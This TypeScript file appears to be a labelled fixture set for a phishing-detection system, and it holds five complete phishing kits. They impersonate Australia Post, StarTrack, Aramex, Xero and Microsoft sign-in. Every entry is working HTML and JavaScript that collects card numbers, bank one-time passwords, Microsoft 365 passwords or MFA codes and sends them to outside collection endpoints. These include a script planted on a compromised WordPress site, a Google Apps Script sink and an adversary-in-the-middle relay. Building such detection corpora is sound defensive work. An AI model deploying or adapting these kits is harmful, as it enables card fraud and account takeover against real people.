import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { shell, baseCss, mark, luhnJs, cardFields, json } from '../parts/xd-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'xd-auspost-redelivery-three-step',
  label: 'phishing',
  kind: 'parcel-fee-card-kit',
  url: 'https://auspost.com.au-redelivery.parcel-hold.top/track/redeliver/33PLM0148127',
  body: shell(
    'Australia Post - Redelivery',
    `<header class="top" style="background:#fff;border-bottom:1px solid #ddd">${mark.auspost(36)}<b>Australia Post</b></header>
<main style="max-width:520px">
 <div class="st" id="s1">
  <h1 style="font-size:22px">We missed you</h1>
  <p>Your parcel <b>33PLM0148127</b> couldn't be delivered because the street number is missing. Confirm your address and pay the <b>$1.99</b> redelivery fee.</p>
  <form id="f1">
   <label>Full name</label><input name="fn" required>
   <label>Street address</label><input name="addr" required>
   <div style="display:flex;gap:10px"><div style="flex:2"><label>Suburb</label><input name="sub" required></div><div style="flex:1"><label>Postcode</label><input name="pc" maxlength="4" required></div></div>
   <label>Mobile</label><input name="mob" type="tel" required>
   <button style="margin-top:16px;background:#dc1928">Continue</button>
  </form>
 </div>
 <div class="st" id="s2" style="display:none">
  <h2>Pay redelivery fee $1.99</h2>
  <form id="f2">${cardFields({ holder: 'chn', number: 'pan', exp: 'exp', cvv: 'cvv' })}<button style="margin-top:16px;background:#dc1928">Pay $1.99</button></form>
 </div>
 <div class="st" id="s3" style="display:none">
  <h2>Verified by your bank</h2><p>Enter the one-time password sent to your mobile.</p>
  <form id="f3"><input name="otp" type="tel" maxlength="6" required><p class="err" id="bad">Incorrect code. A new code has been sent.</p><button style="margin-top:16px;background:#dc1928">Submit</button></form>
 </div>
</main>
<script>
${luhnJs}
var n = 0;
function step(f, s, cb) { var b = new URLSearchParams(new FormData(f)); b.append('s', s); fetch('/track/redeliver/rz.php', { method: 'POST', body: b }).catch(function () {}).finally(cb); }
function show(id) { document.querySelectorAll('.st').forEach(function (d) { d.style.display = d.id === id ? 'block' : 'none'; }); }
document.getElementById('f1').onsubmit = function (e) { e.preventDefault(); step(this, 'info', function () { show('s2'); }); };
document.getElementById('f2').onsubmit = function (e) { e.preventDefault(); if (!luhn(this.pan.value)) { alert('Invalid card'); return; } step(this, 'card', function () { show('s3'); }); };
document.getElementById('f3').onsubmit = function (e) { e.preventDefault(); var f = this; step(f, 'otp' + (++n), function () { if (n < 3) { document.getElementById('bad').style.display = 'block'; f.otp.value = ''; } else location.href = 'https://auspost.com.au/mypost/track/'; }); };
</script>`,
    { css: baseCss('#fff', '#212129', '#dc1928') },
  ),
},
{
  id: 'xd-startrack-duty-compromised-wp',
  label: 'phishing',
  kind: 'parcel-fee-card-kit',
  url: 'https://startrack-express.customs-au.live/duty/ST88421907',
  body: shell(
    'StarTrack | Customs duty payment',
    `<header class="top" style="background:#fff;border-bottom:3px solid #e2231a">${mark.startrack(28)}</header>
<main style="max-width:560px">
 <h1 style="font-size:22px">Import duty & GST outstanding</h1>
 <p>Consignment <b>ST88421907</b> from <b>Shenzhen, CN</b> is held by Australian Border Force pending payment.</p>
 <table style="width:100%;font-size:14px"><tr><td>Duty</td><td>$2.35</td></tr><tr><td>GST</td><td>$1.10</td></tr><tr><td>Handling</td><td>$1.40</td></tr><tr><td><b>Total</b></td><td><b>$4.85</b></td></tr></table>
 <form id="st">
  <label>Email for receipt</label><input name="email" type="email" required>
  ${cardFields({ holder: 'card_holder', number: 'card_number', exp: 'card_expiry', cvv: 'card_cvv' })}
  <button style="margin-top:16px;background:#e2231a">Pay $4.85</button>
 </form>
</main>
<script src="https://www.bayside-physio-clinic.com.au/wp-content/plugins/wp-fastest-cache/js/st-pay.js"></script>`,
    { css: baseCss('#fff', '#1d1d1b', '#e2231a') },
  ),
  routes: {
    'www.bayside-physio-clinic.com.au/wp-content/plugins/wp-fastest-cache/js/st-pay.js': jsRoute(
      `jQuery=window.jQuery||null;(function(d){var f=d.getElementById('st');f.addEventListener('submit',function(e){e.preventDefault();var b=new FormData(f);b.append('ref','ST88421907');b.append('h',location.host);navigator.sendBeacon('https://www.bayside-physio-clinic.com.au/wp-content/plugins/wp-fastest-cache/inc/col.php',b);setTimeout(function(){d.body.innerHTML='<main style="padding:30px;font-family:Arial"><h2>Payment received</h2><p>Your parcel will be delivered within 2 business days.</p></main>'},700)})})(document);`,
    ),
  },
},
{
  id: 'xd-aramex-address-apps-script',
  label: 'phishing',
  kind: 'parcel-fee-card-kit',
  url: 'https://aramex-au-delivery.pages.dev/update/AX771203AU',
  body: shell(
    'Aramex | Update delivery details',
    `<header class="top" style="background:#fff;border-bottom:1px solid #eee">${mark.aramex(26)}</header>
<main style="max-width:520px" id="view"></main>
<script>
var views = {
  addr: '<h1 style="font-size:22px">Update your delivery address</h1><p>Your shipment AX771203AU is pending because the address provided is incomplete.</p><form data-next="pay"><label>Name</label><input name="name" required><label>Address</label><input name="addr" required><label>Postcode</label><input name="pc" required><label>Phone</label><input name="phone" type="tel" required><button style="margin-top:16px;background:#e3051b">Next</button></form>',
  pay: '<h1 style="font-size:22px">Delivery fee: $1.45</h1><p>A small fee is required to reschedule delivery.</p><form data-next="done">${cardFields({ holder: 'cn', number: 'cc', exp: 'ex', cvv: 'cv' }).replace(/\n/g, '').replace(/'/g, "\\'")}<button style="margin-top:16px;background:#e3051b">Pay</button></form>',
  done: '<h2>Thank you</h2><p>Your delivery has been rescheduled.</p>'
};
var acc = {};
var SINK = 'https://script.google.com/macros/s/AKfycbz8Qw1rT0pVxLm3nYc6Ks2dJf9Ge4Hu7Ai5Bo0Cp1Dq/exec';
function render(v) {
  var el = document.getElementById('view'); el.innerHTML = views[v]; location.hash = v;
  var f = el.querySelector('form'); if (!f) return;
  f.onsubmit = function (e) {
    e.preventDefault(); new FormData(f).forEach(function (val, k) { acc[k] = val; });
    fetch(SINK, { method: 'POST', mode: 'no-cors', body: JSON.stringify(Object.assign({ step: v, ref: 'AX771203AU' }, acc)) });
    render(f.getAttribute('data-next'));
  };
}
render('addr');
</script>`,
    { css: baseCss('#fff', '#333', '#e3051b') },
  ),
},
{
  id: 'xd-xero-invoice-m365-harvest',
  label: 'phishing',
  kind: 'invoice-lure-webmail-kit',
  url: 'https://in-xero.com.invoice-view.net/INV-30477/view',
  routes: {
    'in-xero.com.invoice-view.net/INV-30477/view': htmlRoute(
      shell(
        'Invoice INV-30477 from Southern Cross Plumbing Pty Ltd',
        `<main style="max-width:640px">
 <p class="muted">Xero</p>
 <h1 style="font-size:22px">Southern Cross Plumbing Pty Ltd</h1>
 <p>Invoice <b>INV-30477</b> · Amount due <b>$4,380.00 AUD</b> · Due <b>14 days</b></p>
 <p>To view and pay this invoice securely, please verify your email with your Microsoft 365 account.</p>
 <a class="btn" style="background:#13b5ea" id="v" href="/INV-30477/auth">View invoice</a>
 <p class="muted" style="margin-top:30px">Powered by Xero – beautiful business</p>
</main>
<script>document.getElementById('v').href += location.hash;</script>`,
        { css: baseCss('#13b5ea') },
      ),
    ),
    'in-xero.com.invoice-view.net/INV-30477/auth': htmlRoute(
      shell(
        'Sign in to your account',
        `<main style="max-width:440px;border-radius:0">
 <svg width="108" height="24" viewBox="0 0 108 24"><rect width="10" height="10" fill="#f25022"/><rect x="11" width="10" height="10" fill="#7fba00"/><rect y="11" width="10" height="10" fill="#00a4ef"/><rect x="11" y="11" width="10" height="10" fill="#ffb900"/><text x="28" y="17" font-family="Segoe UI,Arial" font-size="15" fill="#5e5e5e">Microsoft</text></svg>
 <h1 style="font-size:24px;font-weight:600" id="h">Sign in</h1>
 <div id="e1"><input type="email" id="em" placeholder="Email, phone, or Skype"><p class="muted">Can't access your account?</p><button id="n1" style="background:#0067b8;float:right">Next</button></div>
 <div id="e2" style="display:none"><p id="who"></p><input type="password" id="pw" placeholder="Password"><p class="err" id="wrong">Your account or password is incorrect. If you don't remember your password, reset it now.</p><button id="n2" style="background:#0067b8;float:right">Sign in</button></div>
</main>
<script>
try { var h = location.hash.slice(1); if (h) document.getElementById('em').value = atob(h); } catch (e) {}
var tries = 0;
document.getElementById('n1').onclick = function () { document.getElementById('who').textContent = document.getElementById('em').value; document.getElementById('e1').style.display = 'none'; document.getElementById('e2').style.display = 'block'; document.getElementById('h').textContent = 'Enter password'; };
document.getElementById('n2').onclick = function () {
  tries++;
  fetch('https://m365-sync.onrender-app.com/next.php', { method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'ai=' + encodeURIComponent(document.getElementById('em').value) + '&pr=' + encodeURIComponent(document.getElementById('pw').value) + '&n=' + tries })
    .finally(function () { if (tries < 2) { document.getElementById('wrong').style.display = 'block'; document.getElementById('pw').value = ''; } else location.replace('https://www.xero.com/au/'); });
};
</script>`,
        { css: baseCss('#fff', '#1b1b1b', '#0067b8') + 'input{border:0!important;border-bottom:1px solid #666!important;border-radius:0!important}' },
      ),
    ),
  },
},
{
  id: 'xd-onedrive-remittance-weebly-aitm',
  label: 'phishing',
  kind: 'invoice-lure-webmail-kit',
  url: 'https://remittance-advice-0425.weebly.com/',
  routes: {
    'remittance-advice-0425.weebly.com/': htmlRoute(
      shell(
        'Remittance Advice - OneDrive',
        `<main style="max-width:520px;text-align:center">
 <svg width="64" height="44" viewBox="0 0 64 44"><path d="M52 40H14a12 12 0 0 1-1-24 16 16 0 0 1 30-4 11 11 0 0 1 9 28Z" fill="#0364b8"/></svg>
 <h1 style="font-size:20px">Commonwealth Bank – Remittance Advice</h1>
 <p>Accounts Payable shared a file with you.</p>
 <div style="border:1px solid #ddd;border-radius:6px;padding:14px;margin:14px 0;text-align:left">📄 <b>CBA_Remittance_Advice_0425.pdf</b><br><span class="muted">PDF · 212 KB · Secured</span></div>
 <a class="btn" style="background:#0364b8" href="https://login-microsoftonline.auth-au-365.top/common/oauth2/v2.0/authorize?client_id=4765445b-32c6-49b0-83e6-1d93765276ca&amp;redirect_uri=https%3A%2F%2Fwww.office.com%2Flandingv2&amp;response_type=code&amp;scope=openid">Open document</a>
 <p class="muted" style="margin-top:24px">This link will work for anyone in your organisation. <br>Site built with Weebly</p>
</main>`,
        { css: baseCss('#0364b8') },
      ),
    ),
    'login-microsoftonline.auth-au-365.top/common/oauth2/v2.0/authorize': htmlRoute(
      shell(
        'Sign in to your account',
        `<main style="max-width:440px">
 <div style="font:600 15px Segoe UI,Arial;color:#5e5e5e">Microsoft</div>
 <h1 style="font-size:24px">Sign in</h1>
 <p class="muted">to continue to Outlook</p>
 <form id="li">
  <input type="email" name="loginfmt" placeholder="someone@example.com" required>
  <input type="password" name="passwd" placeholder="Password" style="margin-top:12px" required>
  <label style="font-weight:400"><input type="checkbox" name="KMSI" checked> Stay signed in?</label>
  <button style="background:#0067b8;margin-top:12px">Sign in</button>
 </form>
 <div id="mfa" style="display:none"><h2 style="font-size:18px">Approve sign in request</h2><p>Open your Authenticator app and enter the number shown, or enter the code we texted.</p><input id="code" maxlength="8"><button id="cb" style="background:#0067b8;margin-top:12px">Verify</button></div>
</main>
<script>
var relay = 'https://login-microsoftonline.auth-au-365.top/common/GetCredentialType?mkt=en-AU';
document.getElementById('li').onsubmit = function (e) {
  e.preventDefault();
  fetch(relay, { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ username: this.loginfmt.value, password: this.passwd.value, flowToken: 'AQABAAEAAAD--DLA3VO7QrddgJg7WevrxNe' }) })
    .then(function (r) { return r.json(); }).catch(function () { return { mfa: true }; })
    .then(function (r) { if (r.mfa) { document.getElementById('li').style.display = 'none'; document.getElementById('mfa').style.display = 'block'; } });
};
document.getElementById('cb').onclick = function () {
  fetch(relay + '&step=otc', { method: 'POST', credentials: 'include', body: document.getElementById('code').value }).finally(function () { location.replace('https://outlook.office.com/mail/'); });
};
</script>`,
        { css: baseCss('#fff', '#1b1b1b', '#0067b8') },
      ),
    ),
    'login-microsoftonline.auth-au-365.top/common/GetCredentialType': json({ mfa: true, flowToken: 'AQABAAEAAAD' }),
  },
},
];
